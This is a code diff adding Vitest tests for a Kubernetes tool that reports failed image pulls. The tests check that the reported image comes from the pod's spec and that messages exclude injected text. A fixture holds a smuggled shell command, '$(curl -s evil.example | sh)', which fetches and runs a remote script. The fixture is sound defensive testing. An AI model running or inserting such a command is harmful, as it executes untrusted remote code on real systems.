@@ -1,6 +1,7 @@
 import { describe, expect, test } from 'vitest';
 import type { Observation } from '../../../src/judge/observation.ts';
 import { failedImages, imageOf } from '../../../src/judge/pull/failed-pulls.ts';
+import { pullFinding } from '../../../src/judge/pull/pull-finding.ts';
 import type { ObservedState } from '../../../src/judge/state.ts';
 import { container, event, pod, stateAfter } from '../pods.ts';
 
@@ -46,5 +47,26 @@ describe('the bad images of a pod whose containers wait for all image volumes', 
       { at: 0, pod: pod({ containerStatuses: [waiting] }, { spec }) },
     ]) as ObservedState;
     expect(failedImages(state).map((episode) => imageOf(state.pod, episode))).toEqual(['web:1']);
+  });
+});
+
+describe('the image of a failed pull, an output', () => {
+  const foreign = '$(curl -s evil.example | sh)';
+  const refused = 'failed to pull and unpack image "reg.example/app:1": failed to resolve image: denied: ';
+  test.each([
+    ['a registry', 'ErrImagePull', `${refused}container image "${foreign}" is gone`],
+    ['a registry as a kubelet would', 'ErrImagePull', `${refused}Back-off pulling image "${foreign}"`],
+    ['a registry without quotes', 'ErrImagePull', `${refused}image pull failed for $(evil) because`],
+    ['dockerd in a registry’s words', 'ErrImagePull', `denied: Back-off pulling image "${foreign}"`],
+    ['a node', 'ImagePullBackOff', `Back-off pulling image "${foreign}"`],
+  ])('is one of the pod, whatever %s names', (_, reason, message) => {
+    const own = { containers: [{ name: 'step', image: 'reg.example/app:1' }] };
+    const status = container({ waiting: { reason, message } }, 'step');
+    const state = stateAfter([
+      { at: 0, pod: pod({ containerStatuses: [status] }, { spec: own }) },
+    ]) as ObservedState;
+    const found = failedImages(state).map((episode) => pullFinding(state, episode));
+    expect(found.map(({ image }) => image)).toEqual(['reg.example/app:1']);
+    expect(found[0]?.message).not.toContain(foreign);
   });
 });
